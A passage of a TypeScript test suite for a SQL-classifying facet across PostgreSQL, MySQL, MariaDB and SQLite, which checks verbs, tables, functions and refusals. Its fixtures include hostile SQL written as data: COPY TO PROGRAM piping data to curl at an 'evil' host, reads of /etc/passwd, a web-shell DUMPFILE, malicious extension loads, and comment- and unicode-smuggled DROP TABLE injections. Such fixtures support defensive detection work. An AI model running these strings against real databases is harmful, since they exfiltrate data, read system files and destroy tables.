import { describe, it, expect, beforeAll } from 'vitest';
import fc from 'fast-check';
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import {
  EMPTY_SQL_FACTS,
  SQL_DIALECTS,
  SQL_MAX_INPUT,
  loadSqlParsers,
  sqlFacet,
  type LoadSqlParsersOptions,
  type SqlDialect,
  type SqlClass,
  type SqlFacetOptions,
  type SqlParsers,
  type SqlFacts,
  type SqlStatementFacts,
} from '../../src/facets/sql.js';

// One parsers object for the whole file, as a policy set holds one.
let parsers: SqlParsers;
beforeAll(async () => {
  parsers = await loadSqlParsers();
});

describe('parser readiness', () => {
  it('refuses to parse without parsers, saying how to load them', () => {
    const f = sqlFacet('SELECT 1', { dialect: 'postgresql' } as unknown as SqlFacetOptions);
    expect([f.parsed, f.dialect]).toEqual([false, 'postgresql']);
    expect(f.error).toContain('await loadSqlParsers()');
    expect(f.classes).toEqual(['read', 'write', 'ddl', 'admin', 'lock', 'file', 'network', 'exec']);
  });

  it('refuses a dialect the parsers were loaded without, naming it', async () => {
    const pgOnly = await loadSqlParsers({ dialects: ['postgresql'] });
    expect([...pgOnly.dialects]).toEqual(['postgresql']);
    const f = sqlFacet('SELECT 1', { dialect: 'sqlite', parsers: pgOnly });
    expect([f.parsed, f.error]).toEqual([false, "the SQL parsers were loaded without sqlite: load them with loadSqlParsers({ dialects: [..., 'sqlite'] })"]);
    expect(sqlFacet('SELECT 1', { dialect: 'postgresql', parsers: pgOnly }).parsed).toBe(true);
  });

  it('rejects unknown options and dialects when loading, with ERR_SQL_PARSER_LOAD', async () => {
    await expect(loadSqlParsers({ dialect: ['postgresql'] } as unknown as LoadSqlParsersOptions)).rejects.toMatchObject({ code: 'ERR_SQL_PARSER_LOAD', message: expect.stringContaining('unknown option "dialect"') });
    await expect(loadSqlParsers({ dialects: ['oracle'] as unknown as SqlDialect[] })).rejects.toMatchObject({ code: 'ERR_SQL_PARSER_LOAD', message: expect.stringContaining('unknown dialect "oracle"') });
  });

  it('gives each load its own PostgreSQL instance: a trap in one refuses SQL there, not in another, until it is re-instantiated', async () => {
    const a = await loadSqlParsers({ dialects: ['postgresql'] });
    const b = await loadSqlParsers({ dialects: ['postgresql'] });
    // Unguarded (the facet refuses it before parsing), this overflows the stack inside WebAssembly.
    const deep = 'SELECT ' + Array(60_000).fill('a').join('+');
    const trapped = a.postgres?.parse(deep);
    expect(trapped).toMatchObject({ syntax: false, error: expect.stringContaining('may be corrupt; SQL is refused until a fresh parser instance is ready') });
    const refused = sqlFacet('SELECT 1', { dialect: 'postgresql', parsers: a });
    expect([refused.parsed, refused.error]).toEqual([false, a.postgres?.failure]);
    expect(sqlFacet('SELECT 1', { dialect: 'postgresql', parsers: b }).parsed).toBe(true);
    await a.postgres?.settled();
    expect(a.postgres?.failure).toBe('');
    expect(sqlFacet('SELECT id FROM t', { dialect: 'postgresql', parsers: a }).tables).toEqual(['t']);
  });
});

describe('system tables', () => {
  it.each([
    ['sqlite', 'SELECT * FROM sqlite_master', ['sqlite_master']],
    ['sqlite', 'SELECT * FROM SQLITE_SCHEMA', ['sqlite_schema']],
    ['sqlite', 'SELECT * FROM pragma_database_list', ['pragma_database_list']],
    ['sqlite', 'SELECT name FROM PRAGMA_TABLE_LIST', ['pragma_table_list']],
    ['sqlite', 'SELECT * FROM users', []],
    ['sqlite', 'SELECT * FROM pragmatic_notes', []],
    ['sqlite', 'SELECT * FROM "SQLITE_MASTER"', ['sqlite_master']],
    ['sqlite', 'SELECT * FROM "Pragma_Table_List"', ['pragma_table_list']],
  ] as const)('%s: %s names the system tables %j', (d, sql, system) => {
    const f = sqlFacet(sql, { dialect: d, parsers });
    expect(f.error).toBe('');
    expect(f.systemTables).toEqual(system);
  });
});

describe('MySQL session variables', () => {
  it.each([
    ['SELECT @a := 1', ['read', 'admin']],
    ['SELECT id, @n := @n + 1 FROM users', ['read', 'admin']],
    ['SET @a = 1', ['admin']],
    ['SELECT name FROM users INTO @v', ['read', 'admin']],
    ['SELECT name INTO @v, @w FROM users', ['read', 'admin']],
    ["SELECT * FROM users WHERE name = 'x' INTO @v", ['read', 'admin']],
    ['SELECT a FROM t WHERE b = @x', ['read']],
    ['UPDATE t SET a = 1', ['write']],
  ])('%s: classes %j', (sql, classes) => {
    const f = sqlFacet(sql, { dialect: 'mysql', parsers });
    expect(f.error).toBe('');
    expect(f.classes).toEqual(classes);
  });
});

describe('sqlFacet', () => {
  interface Parsed {
    d: SqlDialect;
    sql: string;
    verbs: string[];
    tables?: string[];
    functions?: string[];
  }

  // Each row pins the exact verbs, tables and functions (absent lists are []).
  const PARSED: Parsed[] = [
    // PostgreSQL: benign
    { d: 'postgresql', sql: 'SELECT id, name FROM users WHERE id = 1', verbs: ['SELECT'], tables: ['users'] },
    { d: 'postgresql', sql: '/* note */ SELECT 1 -- trailing', verbs: ['SELECT'] },
    { d: 'postgresql', sql: 'SELECT * FROM generate_series(1, 10) g JOIN t ON t.id = g', verbs: ['SELECT'], tables: ['t'], functions: ['generate_series'] },
    { d: 'postgresql', sql: 'SELECT extract(epoch FROM now())', verbs: ['SELECT'], functions: ['extract', 'now'] },
    { d: 'postgresql', sql: 'SELECT current_user, coalesce(a, b) FROM t', verbs: ['SELECT'], tables: ['t'], functions: ['current_user', 'coalesce'] },
    // A cast to an object-identifier type runs its input function (a catalog lookup); other casts call nothing.
    { d: 'postgresql', sql: "SELECT 'pg_authid'::regclass, CAST(10 AS pg_catalog.regrole)", verbs: ['SELECT'], functions: ['regclassin', 'regrolein'] },
    { d: 'postgresql', sql: "SELECT id::text, CAST(total AS numeric(10,2)) FROM orders", verbs: ['SELECT'], tables: ['orders'] },
    {
      d: 'postgresql',
      sql: "SELECT * FROM users WHERE EXISTS (SELECT 1 FROM orders o WHERE o.uid = users.id AND lower(o.s) = 'x')",
      verbs: ['SELECT'],
      tables: ['users', 'orders'],
      functions: ['lower'],
    },
    { d: 'postgresql', sql: 'SELECT a FROM t1 UNION SELECT b FROM s.t2 UNION ALL SELECT upper(c) FROM t3', verbs: ['SELECT'], tables: ['t1', 's.t2', 't3'], functions: ['upper'] },
    { d: 'postgresql', sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r', verbs: ['SELECT'] },
    { d: 'postgresql', sql: 'WITH x AS (WITH y AS (SELECT * FROM base) SELECT * FROM y) SELECT * FROM x, other', verbs: ['SELECT'], tables: ['base', 'other'] },
    { d: 'postgresql', sql: 'SELECT * FROM "Users" JOIN "MySchema"."Orders" ON true', verbs: ['SELECT'], tables: ['users', 'myschema.orders'] },
    { d: 'postgresql', sql: 'SELECT * FROM pg_catalog.pg_authid', verbs: ['SELECT'], tables: ['pg_catalog.pg_authid'] },
    { d: 'postgresql', sql: 'SELECT $$; DROP TABLE x; $$', verbs: ['SELECT'] },
    { d: 'postgresql', sql: 'BEGIN; DELETE FROM t WHERE id = 1; COMMIT', verbs: ['BEGIN', 'DELETE', 'COMMIT'], tables: ['t'] },
    { d: 'postgresql', sql: 'START TRANSACTION; ROLLBACK', verbs: ['BEGIN', 'ROLLBACK'] },
    { d: 'postgresql', sql: "INSERT INTO archive SELECT * FROM live WHERE created < now() - interval '1 day'", verbs: ['INSERT'], tables: ['archive', 'live'], functions: ['now'] },
    // PostgreSQL: every statement counts
    { d: 'postgresql', sql: 'SELECT 1; DROP TABLE x', verbs: ['SELECT', 'DROP'], tables: ['x'] },
    { d: 'postgresql', sql: 'dElEtE fRoM Users', verbs: ['DELETE'], tables: ['users'] },
    { d: 'postgresql', sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', verbs: ['DELETE'], tables: ['t'] },
    { d: 'postgresql', sql: 'WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM u', verbs: ['UPDATE'], tables: ['accounts'], functions: ['count'] },
    { d: 'postgresql', sql: 'WITH a AS (INSERT INTO log VALUES (1) RETURNING *), b AS (DELETE FROM t RETURNING *) SELECT 1', verbs: ['INSERT', 'DELETE'], tables: ['log', 't'] },
    { d: 'postgresql', sql: 'WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets', verbs: ['SELECT'], tables: ['secrets'] },
    { d: 'postgresql', sql: 'EXPLAIN ANALYZE DELETE FROM t', verbs: ['EXPLAIN', 'DELETE'], tables: ['t'] },
    { d: 'postgresql', sql: 'EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 1', verbs: ['EXPLAIN', 'UPDATE'], tables: ['t'] },
    { d: 'postgresql', sql: 'SELECT * INTO new_t FROM t', verbs: ['CREATE'], tables: ['new_t', 't'] },
    { d: 'postgresql', sql: 'CREATE TABLE x AS SELECT * FROM y', verbs: ['CREATE'], tables: ['x', 'y'] },
    { d: 'postgresql', sql: 'CREATE VIEW v AS SELECT * FROM secret', verbs: ['CREATE'], tables: ['v', 'secret'] },
    { d: 'postgresql', sql: 'CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit', verbs: ['CREATE', 'DELETE'], tables: ['t', 'audit'] },
    { d: 'postgresql', sql: "COPY t TO PROGRAM 'curl -d @- http://evil'", verbs: ['COPY'], tables: ['t'] },
    { d: 'postgresql', sql: "COPY t FROM PROGRAM 'id'", verbs: ['COPY'], tables: ['t'] },
    { d: 'postgresql', sql: "COPY (SELECT * FROM pg_catalog.pg_authid) TO '/tmp/x'", verbs: ['COPY'], tables: ['pg_catalog.pg_authid'] },
    { d: 'postgresql', sql: 'COPY (DELETE FROM t RETURNING *) TO STDOUT', verbs: ['COPY', 'DELETE'], tables: ['t'] },
    { d: 'postgresql', sql: "SELECT pg_read_file('/etc/passwd')", verbs: ['SELECT'], functions: ['pg_read_file'] },
    { d: 'postgresql', sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", verbs: ['SELECT'], functions: ['pg_catalog.pg_read_file'] },
    { d: 'postgresql', sql: "SELECT lo_export(1234, '/tmp/x')", verbs: ['SELECT'], functions: ['lo_export'] },
    { d: 'postgresql', sql: "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", verbs: ['SELECT'], functions: ['dblink'] },
    { d: 'postgresql', sql: 'SELECT * FROM t WHERE id = 1 AND pg_sleep(10) IS NULL', verbs: ['SELECT'], tables: ['t'], functions: ['pg_sleep'] },
    { d: 'postgresql', sql: "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", verbs: ['CREATE'] },
    { d: 'postgresql', sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END', verbs: ['CREATE', 'DELETE'], tables: ['t'] },
    { d: 'postgresql', sql: "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", verbs: ['DO'] },
    { d: 'postgresql', sql: 'CALL transfer(1, 2)', verbs: ['CALL'], functions: ['transfer'] },
    { d: 'postgresql', sql: 'SET ROLE postgres', verbs: ['SET'] },
    { d: 'postgresql', sql: 'RESET ALL', verbs: ['RESET'] },
    { d: 'postgresql', sql: 'GRANT ALL ON ALL TABLES IN SCHEMA public TO mallory', verbs: ['GRANT'] },
    { d: 'postgresql', sql: 'REVOKE SELECT ON users FROM app', verbs: ['REVOKE'], tables: ['users'] },
    { d: 'postgresql', sql: 'TRUNCATE audit_log', verbs: ['TRUNCATE'], tables: ['audit_log'] },
    { d: 'postgresql', sql: 'ALTER TABLE users ADD COLUMN is_admin boolean', verbs: ['ALTER'], tables: ['users'] },
    { d: 'postgresql', sql: "ALTER SYSTEM SET log_statement = 'none'", verbs: ['ALTER'] },
    { d: 'postgresql', sql: 'DROP TABLE a.b, c CASCADE', verbs: ['DROP'], tables: ['a.b', 'c'] },
    { d: 'postgresql', sql: 'VACUUM FULL big_table', verbs: ['VACUUM'], tables: ['big_table'] },
    { d: 'postgresql', sql: 'LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE', verbs: ['LOCK'], tables: ['accounts'] },
    { d: 'postgresql', sql: 'PREPARE p(int) AS DELETE FROM t WHERE id = $1; EXECUTE p(1)', verbs: ['PREPARE', 'DELETE', 'EXECUTE'], tables: ['t'] },
    { d: 'postgresql', sql: 'CREATE EXTENSION dblink', verbs: ['CREATE'] },
    { d: 'postgresql', sql: "LOAD '/tmp/evil.so'", verbs: ['LOAD'] },
    { d: 'postgresql', sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', verbs: ['MERGE'], tables: ['t', 's'] },
    { d: 'postgresql', sql: "SELECT 'ok\\d', E'it\\'s'", verbs: ['SELECT'] },
    { d: 'postgresql', sql: 'SELECT 1; -- c\rDROP TABLE y', verbs: ['SELECT', 'DROP'], tables: ['y'] },
    { d: 'postgresql', sql: 'SELECT 1 /* /* nested */ ; DROP TABLE x */', verbs: ['SELECT'] },
    { d: 'postgresql', sql: 'SELECT * FROM "DROP" WHERE "select" = 1', verbs: ['SELECT'], tables: ['drop'] },
    // MySQL: benign
    { d: 'mysql', sql: 'SELECT id FROM users WHERE id = 1', verbs: ['SELECT'], tables: ['users'] },
    { d: 'mysql', sql: 'WITH d AS (SELECT * FROM t) SELECT * FROM d', verbs: ['SELECT'], tables: ['t'] },
    { d: 'mysql', sql: 'SELECT * FROM `Mixed Case`.`Tbl`', verbs: ['SELECT'], tables: ['mixed case.tbl'] },
    { d: 'mysql', sql: "SELECT 'O''Brien', 'a\\\\b', 'x\\ny'", verbs: ['SELECT'] },
    { d: 'mysql', sql: "SELECT 'O\\'Brien' FROM t", verbs: ['SELECT'], tables: ['t'] },
    { d: 'mysql', sql: 'UPDATE t SET a = (SELECT b FROM u) WHERE c IN (SELECT d FROM w)', verbs: ['UPDATE'], tables: ['t', 'u', 'w'] },
    { d: 'mysql', sql: 'BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT', verbs: ['BEGIN', 'UPDATE', 'COMMIT'], tables: ['t'] },
    { d: 'mysql', sql: 'START TRANSACTION; ROLLBACK', verbs: ['BEGIN', 'ROLLBACK'] },
    { d: 'mysql', sql: 'SELECT 1 /*+ MAX_EXECUTION_TIME(1000) */', verbs: ['SELECT'] },
    { d: 'mysql', sql: 'SELECT 1 -- ; DROP TABLE x', verbs: ['SELECT'] },
    { d: 'mysql', sql: 'SELECT 1 --\t; DROP TABLE x', verbs: ['SELECT'] },
    { d: 'mysql', sql: 'SELECT 1 -- c\r; DROP TABLE y', verbs: ['SELECT'] },
    { d: 'mysql', sql: 'WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets', verbs: ['SELECT'], tables: ['secrets'] },
    // MySQL: bypasses
    { d: 'mysql', sql: 'SELECT 1; DROP TABLE x', verbs: ['SELECT', 'DROP'], tables: ['x'] },
    { d: 'mysql', sql: 'SELECT 1 --1; DROP TABLE x', verbs: ['SELECT', 'DROP'], tables: ['x'] },
    { d: 'mysql', sql: 'SELECT 1 # hidden\n; DROP TABLE y', verbs: ['SELECT', 'DROP'], tables: ['y'] },
    { d: 'mysql', sql: 'SELECT 1 /*! ; DROP TABLE x */', verbs: ['SELECT', 'DROP'], tables: ['x'] },
    { d: 'mysql', sql: 'SELECT 1 /*!50000 ; DROP TABLE x */', verbs: ['SELECT', 'DROP'], tables: ['x'] },
    { d: 'mysql', sql: 'SELECT 1 /*!99999 UNION SELECT password FROM mysql.user */', verbs: ['SELECT'], tables: ['mysql.user'] },
    { d: 'mysql', sql: '/*!DROP TABLE x*/', verbs: ['DROP'], tables: ['x'] },
    { d: 'mysql', sql: 'SELECT /*!50000 load_file(0x2f6574632f706173737764) */', verbs: ['SELECT'], functions: ['load_file'] },
    { d: 'mysql', sql: 'dElEtE FROM Users WHERE ID = 1', verbs: ['DELETE'], tables: ['users'] },
    { d: 'mysql', sql: "SELECT * FROM t INTO OUTFILE '/tmp/x'", verbs: ['WRITE_FILE'], tables: ['t'] },
    { d: 'mysql', sql: "SELECT 1 INTO DUMPFILE '/var/www/shell.php'", verbs: ['WRITE_FILE'] },
    { d: 'mysql', sql: "SELECT a FROM t UNION SELECT b FROM u INTO OUTFILE '/tmp/y'", verbs: ['WRITE_FILE'], tables: ['t', 'u'] },
    { d: 'mysql', sql: "SELECT LOAD_FILE('/etc/passwd')", verbs: ['SELECT'], functions: ['load_file'] },
    { d: 'mysql', sql: "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", verbs: ['LOAD_FILE'], tables: ['t'] },
    { d: 'mysql', sql: "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE db.t", verbs: ['LOAD_FILE'], tables: ['db.t'] },
    { d: 'mysql', sql: 'EXPLAIN DELETE FROM t', verbs: ['EXPLAIN', 'DELETE'], tables: ['t'] },
    { d: 'mysql', sql: 'EXPLAIN ANALYZE SELECT * FROM t', verbs: ['EXPLAIN', 'SELECT'], tables: ['t'] },
    { d: 'mysql', sql: 'DESCRIBE secrets', verbs: ['DESCRIBE'], tables: ['secrets'] },
    { d: 'mysql', sql: "PREPARE s FROM 'DROP TABLE x'; EXECUTE s", verbs: ['PREPARE', 'DROP', 'EXECUTE'], tables: ['x'] },
    { d: 'mysql', sql: 'PREPARE s FROM @q', verbs: ['PREPARE'] },
    { d: 'mysql', sql: 'DO SLEEP(5)', verbs: ['DO'], functions: ['sleep'] },
    { d: 'mysql', sql: "SELECT BENCHMARK(1000000, MD5('a'))", verbs: ['SELECT'], functions: ['benchmark', 'md5'] },
    { d: 'mysql', sql: "REVOKE ALL PRIVILEGES ON db.* FROM 'u'@'%'", verbs: ['REVOKE'], tables: ['db.*'] },
    { d: 'mysql', sql: "GRANT ALL ON *.* TO 'u'@'%'", verbs: ['GRANT'], tables: ['*.*'] },
    { d: 'mysql', sql: "SET GLOBAL general_log = 'ON'", verbs: ['SET'] },
    { d: 'mysql', sql: 'CALL do_things(1)', verbs: ['CALL'], functions: ['do_things'] },
    { d: 'mysql', sql: 'USE mysql', verbs: ['USE'] },
    { d: 'mysql', sql: 'TRUNCATE TABLE sessions', verbs: ['TRUNCATE'], tables: ['sessions'] },
    { d: 'mysql', sql: 'ALTER TABLE t ADD COLUMN c INT', verbs: ['ALTER'], tables: ['t'] },
    { d: 'mysql', sql: 'DROP PROCEDURE cleanup', verbs: ['DROP'] },
    { d: 'mysql', sql: 'KILL 42; FLUSH PRIVILEGES', verbs: ['KILL', 'FLUSH'] },
    { d: 'mysql', sql: 'REPLACE INTO t VALUES (1)', verbs: ['REPLACE'], tables: ['t'] },
    { d: 'mysql', sql: "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = load_file('x')", verbs: ['INSERT'], tables: ['t'], functions: ['load_file'] },
    // MariaDB
    { d: 'mariadb', sql: 'SELECT * FROM t WHERE a = 1', verbs: ['SELECT'], tables: ['t'] },
    { d: 'mariadb', sql: 'SELECT 1 /*M!100100 ; DROP TABLE x */', verbs: ['SELECT', 'DROP'], tables: ['x'] },
    // SQLite: benign
    { d: 'sqlite', sql: 'SELECT * FROM t WHERE a = 1 LIMIT 5', verbs: ['SELECT'], tables: ['t'] },
    { d: 'sqlite', sql: 'SELECT * FROM [Order Details] JOIN "Customers" USING (id)', verbs: ['SELECT'], tables: ['order details', 'customers'] },
    { d: 'sqlite', sql: "INSERT OR REPLACE INTO kv (k, v) VALUES ('a', upper('b'))", verbs: ['INSERT'], tables: ['kv'], functions: ['upper'] },
    { d: 'sqlite', sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r', verbs: ['SELECT'] },
    { d: 'sqlite', sql: 'BEGIN IMMEDIATE; DELETE FROM t WHERE id = 1; END', verbs: ['BEGIN', 'DELETE', 'COMMIT'], tables: ['t'] },
    { d: 'sqlite', sql: "SELECT * FROM pragma_table_info('users')", verbs: ['SELECT'], functions: ['pragma_table_info'] },
    { d: 'sqlite', sql: 'SELECT 1 /* DROP TABLE x', verbs: ['SELECT'] },
    { d: 'sqlite', sql: 'SELECT 1 -- c\rDROP TABLE y', verbs: ['SELECT'] },
    // SQLite: bypasses
    { d: 'sqlite', sql: 'PRAGMA writable_schema=1', verbs: ['PRAGMA'] },
    { d: 'sqlite', sql: "PRAGMA main.writable_schema = ON; UPDATE sqlite_master SET sql = 'x'", verbs: ['PRAGMA', 'UPDATE'], tables: ['sqlite_master'] },
    { d: 'sqlite', sql: 'PRAGMA table_info(users)', verbs: ['PRAGMA'], tables: ['users'] },
    { d: 'sqlite', sql: "SELECT 'a\\'; DROP TABLE x; --'", verbs: ['SELECT', 'DROP'], tables: ['x'] },
    { d: 'sqlite', sql: 'SELECT 1 --x\n; DROP TABLE y', verbs: ['SELECT', 'DROP'], tables: ['y'] },
    { d: 'sqlite', sql: "ATTACH DATABASE '/tmp/evil.db' AS evil", verbs: ['ATTACH'] },
    { d: 'sqlite', sql: "SELECT load_extension('/tmp/evil.so')", verbs: ['SELECT'], functions: ['load_extension'] },
    { d: 'sqlite', sql: "VACUUM INTO '/tmp/copy.db'", verbs: ['VACUUM'] },
    { d: 'sqlite', sql: 'CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM audit; END; SELECT 1', verbs: ['CREATE', 'DELETE', 'SELECT'], tables: ['t', 'audit'] },
    { d: 'sqlite', sql: 'EXPLAIN QUERY PLAN DELETE FROM t', verbs: ['EXPLAIN', 'DELETE'], tables: ['t'] },
    { d: 'sqlite', sql: 'dElEtE FROM T', verbs: ['DELETE'], tables: ['t'] },
  ];

  it.each(PARSED)('$d: $sql', ({ d, sql, verbs, tables = [], functions = [] }) => {
    const f = sqlFacet(sql, { dialect: d, parsers });
    expect({ parsed: f.parsed, error: f.error, dialect: f.dialect, verbs: f.verbs, tables: f.tables, functions: f.functions }).toEqual({
      parsed: true,
      error: '',
      dialect: d,
      verbs,
      tables,
      functions,
    });
  });

  // [dialect, sql, a phrase the error must contain]: each input is refused, never guessed at.
  const REFUSED: [SqlDialect, string, string][] = [
    ['postgresql', 'SELECT 1 DR/**/OP TABLE x', 'syntax error'],
    ['postgresql', 'DR/**/OP TABLE x', 'syntax error'],
    ['postgresql', 'SELECT 1;\u00a0DROP TABLE x', 'syntax error'],
    ['postgresql', 'SELECT 1;\u200bDROP TABLE x', 'syntax error'],
    ['postgresql', '\uff24\uff32\uff2f\uff30 TABLE x', 'syntax error'],
    ['postgresql', "SELECT 'a\\'' ; DROP TABLE x; --'", 'standard_conforming_strings'],
    ['postgresql', "SELECT 'C:\\'", 'standard_conforming_strings'],
    ['postgresql', '-- just a comment', 'no SQL statement'],
    ['postgresql', '   \n\t ', 'no SQL statement'],
    ['mysql', 'DR/**/OP TABLE x', 'syntax error at or near "OP TABLE x"'],
    ['mysql', 'SELECT 1 /* /* nested */ ; DROP TABLE x */', 'statement 2: syntax error'],
    ['mysql', "SELECT 'a\\'; DROP TABLE x; -- '", 'NO_BACKSLASH_ESCAPES'],
    ['mysql', 'SELECT "a\\"; DROP TABLE x; -- "', 'NO_BACKSLASH_ESCAPES'],
    ['mysql', 'SELECT 1 /* unterminated', 'unterminated /* comment'],
    ['mysql', 'SELECT 1 /*! DROP TABLE x', 'unterminated executable comment'],
    ['mysql', 'SELECT 1 /*! /* nested */ DROP TABLE x */', 'comment inside an executable comment'],
    ['mysql', "SELECT 'open", 'unterminated string literal'],
    ['mysql', 'SELECT 1;\u00a0DROP TABLE x', 'invisible or space-like character U+00A0'],
    ['mysql', 'DROP TABLE x\u200b', 'U+200B'],
    ['sqlite', '\ufeffSELECT 1; DR\u00adOP TABLE x', 'U+FEFF'],
    ['mysql', 'HANDLER t OPEN', 'syntax error'],
    ['mysql', 'ALTER EVENT e DO DELETE FROM secrets', 'syntax error'],
    ['mysql', "PREPARE s FROM 'PREPARE t FROM ''DROP TABLE x'''", 'PREPARE inside a prepared statement'],
    ['mysql', '# only a comment', 'no SQL statement'],
    ['mariadb', 'SELECT 1 /*M!100100 DROP */', 'syntax error'],
    ['sqlite', 'SELECT 1 # x', "'#' outside a string"],
    ['sqlite', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'syntax error'],
    ['sqlite', 'PRAGMA foo(bar(1))', 'cannot read this PRAGMA'],
    ['sqlite', 'VACUUM INTO (SELECT 1)', 'parentheses are not expected'],
    ['sqlite', 'SELECT `a``b` FROM t', 'backtick'],
    ['sqlite', 'CREATE TRIGGER tr AFTER INSERT ON t BEGIN SELECT CASE WHEN 1 THEN 2 END; DELETE FROM z; END', 'syntax error'],
  ];

  it.each(REFUSED)('%s refuses %j', (d, sql, phrase) => {
    const f = sqlFacet(sql, { dialect: d, parsers });
    expect(f.parsed).toBe(false);
    expect(f.error).toContain(phrase);
    expect([f.statements, f.verbs, f.tables, f.functions]).toEqual([[], [], [], []]);
  });

  const stmt = (s: Partial<SqlStatementFacts> & { verb: string; classes: SqlClass[] }): SqlStatementFacts => ({
    tables: [],
    functions: [],
    hasWhere: false,
    object: '',
    program: false,
    file: '',
    nested: false,
    ...s,
  });

  // [what the row pins, dialect, sql, every statement expected]
  const STATEMENTS: [string, SqlDialect, string, SqlStatementFacts[]][] = [
    [
      'a data-modifying CTE is a nested statement and the SELECT carrying it takes its verb',
      'postgresql',
      'WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d',
      [stmt({ verb: 'DELETE', tables: ['t'], classes: ['write'] }), stmt({ verb: 'DELETE', tables: ['t'], hasWhere: true, nested: true, classes: ['write'] })],
    ],
    [
      'EXPLAIN ANALYZE reports the explained statement, nested',
      'postgresql',
      'EXPLAIN ANALYZE DELETE FROM t',
      [stmt({ verb: 'EXPLAIN', tables: ['t'], classes: ['read', 'write'] }), stmt({ verb: 'DELETE', tables: ['t'], nested: true, classes: ['write'] })],
    ],
    ['COPY TO PROGRAM sets program and the command', 'postgresql', "COPY t TO PROGRAM 'curl x'", [stmt({ verb: 'COPY', object: 'to', tables: ['t'], program: true, file: 'curl x', classes: ['read', 'exec'] })]],
    ['COPY FROM a server file names the file', 'postgresql', "COPY t FROM '/etc/passwd'", [stmt({ verb: 'COPY', object: 'from', tables: ['t'], file: '/etc/passwd', classes: ['write', 'file'] })]],
    [
      'hasWhere follows each statement',
      'postgresql',
      'UPDATE t SET a = 1; UPDATE t SET a = 1 WHERE b = 2; DELETE FROM u WHERE CURRENT OF c',
      [stmt({ verb: 'UPDATE', tables: ['t'], classes: ['write'] }), stmt({ verb: 'UPDATE', tables: ['t'], hasWhere: true, classes: ['write'] }), stmt({ verb: 'DELETE', tables: ['u'], hasWhere: true, classes: ['write'] })],
    ],
    [
      'a UNION has a WHERE only when every branch has one',
      'postgresql',
      'SELECT a FROM t WHERE x UNION SELECT a FROM u; SELECT a FROM t WHERE x UNION SELECT a FROM u WHERE y',
      [stmt({ verb: 'SELECT', tables: ['t', 'u'], classes: ['read'] }), stmt({ verb: 'SELECT', tables: ['t', 'u'], hasWhere: true, classes: ['read'] })],
    ],
    [
      'CREATE says what it creates',
      'postgresql',
      'CREATE EXTENSION dblink; CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql; CREATE MATERIALIZED VIEW mv AS SELECT 1',
      [
        stmt({ verb: 'CREATE', object: 'extension', classes: ['ddl', 'exec'] }),
        stmt({ verb: 'CREATE', object: 'function', classes: ['ddl'] }),
        stmt({ verb: 'CREATE', object: 'materialized view', tables: ['mv'], classes: ['ddl'] }),
      ],
    ],
    ['SELECT INTO creates a table', 'postgresql', 'SELECT * INTO new_t FROM t', [stmt({ verb: 'CREATE', object: 'table', tables: ['new_t', 't'], classes: ['ddl'] })]],
    ['SET names the setting', 'postgresql', 'SET ROLE postgres', [stmt({ verb: 'SET', object: 'role', classes: ['admin'] })]],
    ['DROP says what it drops', 'postgresql', 'DROP FUNCTION f(int)', [stmt({ verb: 'DROP', object: 'function', classes: ['ddl'] })]],
    ['INTO OUTFILE names the file', 'mysql', "SELECT * FROM t INTO OUTFILE '/tmp/x'", [stmt({ verb: 'WRITE_FILE', object: 'outfile', tables: ['t'], file: '/tmp/x', classes: ['read', 'file'] })]],
    ['INTO DUMPFILE names the file', 'mysql', "SELECT 'x' INTO DUMPFILE '/tmp/it''s'", [stmt({ verb: 'WRITE_FILE', object: 'dumpfile', file: "/tmp/it's", classes: ['read', 'file'] })]],
    ['LOAD DATA names the file it reads', 'mysql', "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", [stmt({ verb: 'LOAD_FILE', object: 'table', tables: ['t'], file: '/etc/passwd', classes: ['write', 'file'] })]],
    [
      'a prepared statement text is analysed as nested statements',
      'mysql',
      "PREPARE s FROM 'DELETE FROM t WHERE id = ?'",
      [stmt({ verb: 'PREPARE', tables: ['t'], classes: ['read', 'write'] }), stmt({ verb: 'DELETE', tables: ['t'], hasWhere: true, nested: true, classes: ['write'] })],
    ],
    ['REVOKE of a role names no object', 'mysql', "REVOKE admin FROM 'u'@'%'", [stmt({ verb: 'REVOKE', classes: ['admin'] })]],
    ['REVOKE on a routine names no table', 'mysql', 'REVOKE EXECUTE ON PROCEDURE db.p FROM u', [stmt({ verb: 'REVOKE', object: 'procedure', classes: ['admin'] })]],
    ['a PRAGMA names the pragma', 'sqlite', 'PRAGMA writable_schema = 1', [stmt({ verb: 'PRAGMA', object: 'writable_schema', classes: ['admin'] })]],
    ['ATTACH names the database file', 'sqlite', "ATTACH DATABASE '/tmp/evil.db' AS evil", [stmt({ verb: 'ATTACH', object: 'database', file: '/tmp/evil.db', classes: ['admin', 'file'] })]],
    [
      'a trigger body is nested statements',
      'sqlite',
      'CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM audit; END',
